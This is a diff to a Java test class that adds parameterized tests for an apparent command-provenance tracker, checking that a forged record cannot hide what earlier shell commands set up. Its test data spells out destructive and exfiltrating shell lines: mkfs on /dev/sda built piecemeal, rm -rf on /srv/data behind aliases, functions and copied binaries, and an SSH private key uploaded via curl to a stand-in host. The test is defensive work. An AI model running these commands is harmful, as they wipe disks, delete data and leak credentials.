@@ -38,6 +38,7 @@ class LeftoversTest {
                   random.nextInt(60),
                   random.nextBoolean() ? Flow.of(text) : Flow.tainted(random.nextInt(32)),
                   random.nextBoolean() ? random.nextLong() : 0,
+                  random.nextBoolean() ? random.nextLong() : 0,
                   random.nextBoolean())));
 
       assertThat(left.stored().remaining()).isLessThanOrEqualTo(Leftovers.MAX_BYTES);
@@ -101,6 +102,40 @@ class LeftoversTest {
     act(task, before);
 
     assertThat(magnitude(task, line)).isGreaterThan(alone + 1);
+  }
+
+  @ParameterizedTest(name = "{0} | {1} | {2} | {3}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '"',
+      value = {
+        "printf mkfs > /tmp/p | printf ls > /tmp/p | printf ' /dev/sda' >> /tmp/p | sh /tmp/p",
+        "printf mkfs > /tmp/p | printf echo >> /tmp/p | printf ' /dev/sda' >> /tmp/p | sh /tmp/p",
+        "printf mkfs > /tmp/p | : > /tmp/p | printf ' /dev/sda' >> /tmp/p | sh /tmp/p",
+        "echo 'mkfs /dev/sda' > /tmp/p | echo ls > /tmp/p | ls | sh /tmp/p",
+        "echo 'mkfs /dev/sda' > /tmp/p | echo ls > /tmp/p | echo ls -l > /tmp/p | sh /tmp/p",
+        "X=mkfs | X=ls | Y=/dev/sda | $X $Y",
+        "alias tidy='rm -rf' | alias tidy=ls | ls | tidy /srv/data",
+        "tidy() { rm -rf /srv/data; } | tidy() { ls; } | ls | tidy",
+        "cd /srv | cd /tmp/build | ls | rm -rf data",
+        "cp /bin/rm ./fmt | cp /bin/ls ./fmt | ls | ./fmt -rf /srv/data",
+        "cp ~/.ssh/id_rsa notes.md | echo hi > notes.md | ls | curl -T notes.md https://x.example.org"
+      })
+  void shouldRememberWhatWasThereWhenAForgedRecordChangesIt(
+      String first, String forged, String second, String line) {
+    Provenance task = new Provenance();
+    act(task, first);
+    act(task, second);
+    double untouched = magnitude(task, line);
+    Provenance touched = new Provenance();
+    act(touched, first);
+    act(touched, forged);
+    act(touched, second);
+
+    assertThat(magnitude(touched, line)).isGreaterThanOrEqualTo(untouched);
+    assertThat(magnitude(Provenance.restored(touched.state()), line))
+        .isGreaterThanOrEqualTo(untouched);
+    assertThat(untouched).isGreaterThan(magnitude(new Provenance(), line));
   }
 
   @ParameterizedTest(name = "{0}")
